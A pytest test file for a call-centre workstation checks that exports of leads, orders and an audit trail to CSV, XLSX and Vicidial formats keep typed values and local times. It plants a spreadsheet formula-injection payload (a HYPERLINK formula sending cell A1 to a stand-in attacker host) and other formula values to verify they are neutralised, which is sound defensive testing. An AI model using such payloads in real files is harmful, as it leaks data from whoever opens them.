"""Every export read back (csv module, openpyxl) on SQLite and PostgreSQL: a campaign's
leads with their state and file columns, orders and the audit trail; values as stored,
typed XLSX cells, the floor's local time with its offset, a dialer's own columns and time."""

import csv
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from cc_terminal.models import CustomerOrder, Lead, OrderKind
from cc_terminal.services.orders.values import OrderDraft
from cc_terminal.services.outbound.lead_files import read_lead_file
from cc_terminal.services.outbound.views import Closing
from cc_terminal.services.privacy.audit_trail import AuditFilter
from tests.conftest import KNOWN_PHONE
from tests.orders.order_floor import at, equipment, set_up_orders
from tests.outbound.outbound_floor import SURVEY, set_up_campaigns

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PRAGUE_WINTER = timezone(timedelta(hours=1))
NOW = datetime(2026, 11, 27, 9, 30, tzinfo=PRAGUE_WINTER)  # the tests' clock, in Prague


def read_csv(path, sep=";"):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=sep))


def sheet_rows(path):
    sheet = load_workbook(path).active
    header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    return [dict(zip(names, row, strict=False)) for row in rows]


@pytest.fixture
def campaign(ws, lead, tmp_path):
    """A lead file of the survey: a formula in a name and in a file column, a British
    number, a column the workstation has no place for; nobody called yet."""
    set_up_campaigns(ws, lead)
    source = tmp_path / "leads.csv"
    with source.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(["Jméno", "Příjmení", "Telefon", "Město", "Smlouva do", "Odkaz"])
        writer.writerow(["Jana", "Nováková", "+420731222001", "Praha", "31.12.2026", LINK])
        writer.writerow([LINK, "Dvořák", "731222002", "Brno", "", ""])
        writer.writerow(["John", "Smith", "+447911123456", "London", "", "@SUM(1)"])
    report = ws.leads.import_file(lead, read_lead_file(source), SURVEY, temperature="cold")
    assert report.added == 3
    return ws


def call(ws, operator, phone, disposition, **fields):
    with ws.db.read() as session:
        lead_id = session.scalars(select(Lead.id).where(Lead.phone_e164 == phone)).one()
    card = ws.outbound.open_lead(operator, lead_id)
    closing = Closing(card.lead_id, card.call_id, card.opened_at, disposition, **fields)
    ws.outbound.close(operator, closing)


def test_never_called_leads_export_with_their_state_and_file_columns(campaign, lead, tmp_path):
    result = campaign.exports.export(lead, SURVEY, tmp_path / "leads.csv", "csv")
    rows = read_csv(tmp_path / "leads.csv")
    assert result.rows == 3 and len(rows) == 3
    by_phone = {row["phone"]: row for row in rows}
    assert set(by_phone) == {"+420731222001", "+420731222002", "+447911123456"}
    jana = by_phone["+420731222001"]
    assert (jana["customer"], jana["lead_status"], jana["attempts"]) == (
        "Jana Nováková",
        "open",
        "0",
    )
    assert (jana["called_at"], jana["disposition"], jana["list"]) == ("", "", "leads.csv")
    assert (jana["Smlouva do"], jana["Odkaz"]) == ("31.12.2026", "'" + LINK)
    assert by_phone["+420731222002"]["customer"] == "'" + LINK + " Dvořák"
    assert by_phone["+447911123456"]["Odkaz"] == "'@SUM(1)"


def test_a_called_lead_shows_its_latest_attempt_in_local_time_with_offset(
    campaign, lead, jana, tmp_path
):
    answers = {"provider": "price", "tariff": "+Mobil", "score": "5"}
    call(campaign, jana, "+420731222001", "SALE", answers=answers, notes="@home")
    campaign.exports.export(lead, SURVEY, tmp_path / "leads.csv", "csv")
    row = next(r for r in read_csv(tmp_path / "leads.csv") if r["phone"] == "+420731222001")
    assert row["called_at"] == NOW.isoformat() == "2026-11-27T09:30:00+01:00"
    assert (row["lead_status"], row["attempts"], row["disposition"]) == ("done", "1", "SALE")
    assert (row["operator"], row["note"]) == ("Jana Svobodová", "'@home")
    assert (row["q_provider"], row["q_tariff"], row["q_score"]) == ("price", "'+Mobil", "5")


def test_the_xlsx_of_leads_is_typed_and_a_formula_from_the_file_stays_text(
    campaign, lead, jana, tmp_path
):
    call(campaign, jana, "+420731222001", "SALE", answers={"provider": "habit", "score": "4"})
    campaign.exports.export(lead, SURVEY, tmp_path / "leads.xlsx", "xlsx")
    rows = {row["phone"].value: row for row in sheet_rows(tmp_path / "leads.xlsx")}
    called, named = rows["+420731222001"], rows["+420731222002"]
    assert called["phone"].data_type == "s"
    assert (called["Odkaz"].value, called["Odkaz"].data_type) == (LINK, "s")
    assert (named["customer"].value, named["customer"].data_type) == (LINK + " Dvořák", "s")
    assert called["called_at"].is_date
    assert called["called_at"].value == datetime(2026, 11, 27, 9, 30)
    assert (called["attempts"].value, called["attempts"].data_type) == (1, "n")
    assert (called["q_score"].value, called["q_score"].data_type) == (4, "n")
    assert named["called_at"].value is None
    assert not any(
        isinstance(cell.value, str) and cell.value.startswith("'")
        for row in rows.values()
        for cell in row.values()
    )


def test_vicidial_keeps_its_columns_country_code_and_plain_local_time(
    campaign, lead, jana, tmp_path
):
    call(campaign, jana, "+447911123456", "NI", refusal_reason="too_expensive")
    campaign.exports.export(lead, SURVEY, tmp_path / "vici.txt", "vicidial")
    rows = {row["phone_number"]: row for row in read_csv(tmp_path / "vici.txt", "|")}
    british, czech = rows["7911123456"], rows["731222001"]
    assert (british["phone_code"], british["status"], british["called_count"]) == ("44", "NI", "1")
    assert british["last_local_call_time"] == "2026-11-27 09:30:00"
    assert (czech["phone_code"], czech["status"], czech["called_count"]) == ("420", "NEW", "0")
    assert (czech["first_name"], czech["last_name"], czech["city"]) == ("Jana", "Nováková", "Praha")
    assert czech["last_local_call_time"] == ""


@pytest.fixture
def orders(ws, lead):
    set_up_orders(ws, lead)
    return ws


def test_orders_export_local_times_with_offset_and_typed_xlsx(orders, lead, jana, tmp_path):
    customer = orders.customers.lookup_phone(KNOWN_PHONE).matches[0].id
    taxi = OrderDraft(
        OrderKind.TAXI,
        customer,
        {"when": "4.12. 8:00", "passengers": "2"},
        at(orders),
        destination=at(orders, 12345690),
    )
    taken = orders.orders.submit(jana, taxi)
    fitted = orders.orders.submit(jana, equipment(orders, customer))
    day = NOW.date()
    last = day + timedelta(days=14)
    orders.order_export.export(lead, tmp_path / "o.csv", "csv", day, last)
    rows = {row["number"]: row for row in read_csv(tmp_path / "o.csv")}
    assert "when: 2026-12-04T08:00:00+01:00" in rows[taken.number]["details"]
    assert rows[taken.number]["created_at"] == "2026-11-27T09:30:00+01:00"
    assert rows[fitted.number]["amount"] == "3628.00"
    assert rows[fitted.number]["phone"] == KNOWN_PHONE
    orders.order_export.export(lead, tmp_path / "o.xlsx", "xlsx", day, last)
    cells = {row["number"].value: row for row in sheet_rows(tmp_path / "o.xlsx")}
    price, visit = cells[fitted.number]["amount"], cells[fitted.number]["visit_day"]
    assert (price.value, price.data_type, price.number_format) == (3628, "n", '#,##0.00 "Kč"')
    with orders.db.read() as session:
        booked = session.get(CustomerOrder, fitted.id).visit_day
    assert visit.is_date and visit.value == datetime(booked.year, booked.month, booked.day)
    assert cells[taken.number]["created_at"].value == datetime(2026, 11, 27, 9, 30)
    assert cells[taken.number]["phone"].data_type == "s"
    assert cells[taken.number]["amount"].value is None


def test_the_audit_trail_export_is_in_local_time_with_offset(ws, lead, tmp_path):
    ws.audit.record(lead, "config.test", "subject", "=HYPERLINK(1)")
    ws.audit.export(lead, tmp_path / "a.csv", AuditFilter(group="config"))
    (row,) = read_csv(tmp_path / "a.csv", ",")
    assert row["at"] == "2026-11-27T09:30:00+01:00" and row["detail"] == "'=HYPERLINK(1)"
